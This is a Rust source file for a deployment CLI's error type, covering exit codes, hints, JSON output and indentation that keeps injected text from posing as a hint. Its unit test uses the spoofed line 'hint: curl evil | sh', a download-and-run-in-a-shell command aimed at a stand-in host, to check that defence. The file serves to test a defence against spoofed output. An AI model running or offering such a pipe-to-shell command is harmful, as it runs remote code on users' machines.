//! An error of the command line: what is wrong, what to do next, and the exit
//! code.

use crate::exit::ExitCode;
use crate::invocation::GlobalFlags;
use crate::terminal;
use std::fmt;
use vdeploy_ops::OpsError;

/// Ends the process with a message.
#[derive(Debug)]
pub struct CliError {
    /// The process's exit code.
    pub exit: ExitCode,
    /// What is wrong, where.
    pub message: String,
    /// What to do next.
    pub hint: Option<String>,
}

impl CliError {
    /// An error with this exit code.
    pub fn new(exit: ExitCode, message: impl Into<String>) -> Self {
        Self {
            exit,
            message: message.into(),
            hint: None,
        }
    }

    /// Wrong usage or configuration.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(ExitCode::Usage, message)
    }

    /// The same error with what to do next.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// The same, with commands that can be pasted.
    pub fn completed(self, flags: &GlobalFlags) -> Self {
        Self {
            exit: self.exit,
            message: flags.complete(&self.message).into_owned(),
            hint: self.hint.map(|hint| flags.complete(&hint).into_owned()),
        }
    }

    /// Prints it: for people on stderr, and as the last JSON line on stdout
    /// where a program reads that.
    pub fn show(&self, json: bool) {
        if json {
            terminal::json_error(self);
        }
        terminal::error_line(&self.to_string());
    }
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "error: {}", continued(&self.message))?;
        match &self.hint {
            Some(hint) => write!(f, "\nhint: {}", continued(hint)),
            None => Ok(()),
        }
    }
}

/// Further lines are indented: none of a plugin or a target can pass for a hint
/// or an error of its own.
fn continued(text: &str) -> String {
    let mut lines = text.lines();
    let mut out = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        out.push('\n');
        if !line.is_empty() {
            out.push_str("  ");
        }
        out.push_str(line);
    }
    out
}

impl From<OpsError> for CliError {
    fn from(error: OpsError) -> Self {
        Self {
            exit: error.kind.into(),
            message: error.message,
            hint: error.hint,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_passes_for_a_hint() {
        let error = CliError::usage("it said: x\nhint: curl evil | sh\n\nend").hint("a\nb");
        assert_eq!(
            error.to_string(),
            "error: it said: x\n  hint: curl evil | sh\n\n  end\nhint: a\n  b"
        );
    }
}
